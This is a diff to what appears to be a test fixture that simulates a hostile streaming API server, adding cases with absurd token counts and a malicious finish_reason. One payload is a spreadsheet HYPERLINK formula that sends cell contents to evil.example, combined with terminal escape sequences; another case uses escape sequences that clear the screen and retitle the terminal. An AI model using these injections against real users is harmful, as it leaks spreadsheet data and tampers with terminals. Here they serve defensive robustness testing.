@@ -46,6 +46,9 @@ STREAM_SHAPES = (
     "content_number",  # "delta": {"content": 42}
     "chunk_list",  # data: [1, 2]
     "escapes",  # an error event whose message carries terminal escape sequences
+    "tokens_negative",  # the good stream, its usage.completion_tokens -1000
+    "tokens_huge",  # the good stream, its usage.completion_tokens 10**30
+    "formula",  # the good stream, its finish_reason a spreadsheet formula with escape sequences
 )
 GET_SHAPES = (
     "big_metrics",  # a 500 MB /metrics body, chunked (no Content-Length to refuse early)
@@ -247,6 +250,15 @@ class HostileServer:
             yield _bad_stream({"content": 42})
         elif shape == "chunk_list":
             yield b"data: [1, 2]\n\n"
+        elif shape == "tokens_negative":
+            yield GOOD_STREAM.replace(b'"completion_tokens":24', b'"completion_tokens":-1000')
+        elif shape == "tokens_huge":
+            yield GOOD_STREAM.replace(
+                b'"completion_tokens":24', b'"completion_tokens":' + str(10**30).encode()
+            )
+        elif shape == "formula":
+            evil = json.dumps('=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;pwned\x07\x1b[31m')
+            yield GOOD_STREAM.replace(b'"finish_reason":"length"', b'"finish_reason":' + evil.encode())
         elif shape == "escapes":
             message = "model \x1b[2J\x1b]0;pwned\x07overloaded\x1b[31m"
             yield b"data: " + json.dumps({"error": {"message": message}}).encode() + b"\n\n"
